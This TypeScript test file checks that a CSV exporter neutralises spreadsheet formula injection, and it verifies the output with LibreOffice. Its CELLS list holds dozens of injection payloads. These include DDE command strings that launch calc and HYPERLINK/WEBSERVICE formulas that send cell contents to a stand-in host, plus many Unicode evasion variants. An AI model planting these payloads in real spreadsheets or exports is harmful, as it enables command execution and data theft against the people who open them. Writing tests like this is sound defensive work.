import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type CsvColumn, csvHeader, csvRows } from '../../../src/render/csv/csv.ts';
import { officeProgram } from '../../support/office.ts';
import { temporaryFolder } from '../../support/run.ts';

/** What begins or hides a formula, ends a cell or a record early, or is turned into something else, for one spreadsheet or another. */
const CELLS = [
  '=1+1',
  '=1+1\n=2+2',
  "=cmd|' /C calc'!A0",
  "=DDE('soffice';'x';'y')",
  '=HYPERLINK("http://example.invalid/?"&A1,"देखें")',
  '=WEBSERVICE("http://example.invalid/"&A1)',
  '=IMPORTXML("http://example.invalid","//a")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2-3|calc',
  '@SUM(1+1)',
  '@1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1',
  '−1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u000B=1+1',
  '\u200B=1+1',
  '\u200D=1+1',
  '\u2060=1+1',
  '\uFEFF=1+1',
  '\u00AD=1+1',
  '\u202E=1+1',
  '\u061C=1+1',
  '\u001B[0m=1+1',
  '\u0000=1+1',
  'शिकायत\n=1+1\nधन्यवाद',
  'शिकायत\r=1+1',
  'शिकायत\r\n=1+1\r\n',
  'शिकायत\u2028=1+1',
  'शिकायत\u0085=1+1',
  'शिकायत;=1+1',
  'शिकायत\t=1+1',
  'शिकायत,=1+1',
  'शिकायत|=1+1',
  '"=1+1',
  '"\n=1+1',
  '""=1+1""',
  '",=1+1,"',
  '";=1+1;"',
  "'=1+1",
  "' =1+1",
  '=',
  '@',
  '-',
  '--1',
  '=-1',
  '=+1',
  '{=1+1}',
  '=1+1,"=2+2"\r\n=3+3',
  '- शिकायत',
  '+91 सम्पर्क',
] as const;

const HANDLES = ['007', '1E5', '9E12345', 'MARCH1', 'jan2020', 'TRUE', '00123456789', '2_1', '1900000000000000001'] as const;

interface Row {
  readonly id: string;
  readonly text: string;
  readonly end: string;
}

const columns: CsvColumn<Row>[] = [
  { key: 'id', value: (row) => row.id, id: true },
  { key: 'text', value: (row) => row.text },
  { key: 'end', value: (row) => row.end },
];

const rows: Row[] = CELLS.map((text, at) => ({ id: HANDLES[at % HANDLES.length] ?? '007', text, end: `end ${at}` }));
const written = (excel: boolean) => csvHeader(columns, { excel }) + csvRows(rows, columns, { excel });
/** Digits that only a formula that was run could have made of the cells. */
const RUN = /^(?:2|0|4|-1|1|#.*|Err:\d+)$/;

describe('cells that spreadsheets run', () => {
  it('are at least 60', () => {
    expect(new Set(CELLS).size).toBeGreaterThanOrEqual(60);
  });

  it.each([false, true])('stay one record and three columns each, whatever they hold (Excel: %s)', (excel) => {
    const records = parse(written(excel), { bom: true, relax_column_count: false }) as string[][];
    expect(records).toHaveLength(CELLS.length + 1);
    records.slice(1).forEach(([id, , end], at) => {
      expect(id?.trim()).toBe(rows[at]?.id);
      expect(end).toBe(`end ${at}`);
    });
  });

  it.each([false, true])('begin with nothing that is run, and hold no delimiter outside quotes (Excel: %s)', (excel) => {
    // A reader that takes all three for delimiters finds no other cells than one that takes commas.
    const records = parse(written(excel), { bom: true, delimiter: [',', ';', '\t'], relax_column_count: false }) as string[][];
    expect(records).toHaveLength(CELLS.length + 1);
    for (const [, text = ''] of records) expect(text).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠﹦﹢−]/u);
  });

  const office = officeProgram();
  it.skipIf(office === null)(
    'are shown by LibreOffice as they were written, in their records and columns (skipped where it is not installed)',
    { timeout: 120_000 },
    () => {
      using folder = temporaryFolder();
      writeFileSync(folder.file('cells.csv'), written(true));
      execFileSync(office ?? '', [
        `-env:UserInstallation=file://${folder.file('profile')}`,
        '--headless',
        '--infilter=CSV:44/59/9,34,76,1,,0,false,true,false',
        '--convert-to',
        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false',
        '--outdir',
        folder.file('out'),
        folder.file('cells.csv'),
      ]);
      const records = parse(readFileSync(folder.file('out/cells.csv'), 'utf8'), { bom: true, relax_column_count: false }) as string[][];
      expect(records).toHaveLength(CELLS.length + 1);
      records.slice(1).forEach(([id = '', text = '', end], at) => {
        expect(id.trim()).toBe(rows[at]?.id);
        expect(text).not.toMatch(RUN);
        expect(end).toBe(`end ${at}`);
      });
    },
  );
});
